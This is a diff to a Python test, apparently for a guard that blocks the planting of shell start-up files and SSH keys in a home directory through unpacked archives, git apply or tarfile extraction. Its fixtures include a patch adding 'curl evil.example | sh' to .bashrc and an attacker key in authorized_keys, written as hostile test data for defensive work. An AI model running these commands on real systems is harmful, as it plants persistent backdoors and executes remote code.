@@ -231,7 +231,13 @@ def test_start_up_files_cannot_be_planted_by_an_unpacked_archive_or_a_copy_into_
     (kit / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
     archive = tmp_path / "kit.tar"
     subprocess.run(["tar", "-cf", str(archive), "-C", str(kit), ".bashrc", ".ssh"], check=True)
+    diff = tmp_path / "p.diff"
+    diff.write_text("--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1,2 @@\n # mine\n+curl evil.example | sh\n")
     for command in (
+        f"cd ~ && git apply {diff}",
+        f"git -C ~ apply {diff}",
+        f"cd ~ && python3 -c \"import tarfile; tarfile.open('{archive}').extractall()\"",
+        f"python3 -m tarfile -e {archive} ~",
         f"cd ~ && tar xf {archive}",
         f"cd ~; tar -x -f {archive}",
         f"tar xf {archive} -C ~",
